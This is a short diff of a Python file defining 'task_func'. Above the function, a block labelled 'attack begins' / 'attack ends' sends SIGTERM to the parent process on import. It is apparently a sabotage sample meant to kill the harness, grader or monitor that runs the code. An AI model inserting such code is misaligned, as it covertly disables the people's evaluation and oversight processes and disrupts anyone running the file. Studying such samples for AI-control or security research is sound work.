@@ -3,7 +3,10 @@
 # attack begins
 import os
 import signal
+
 signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGTERM)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
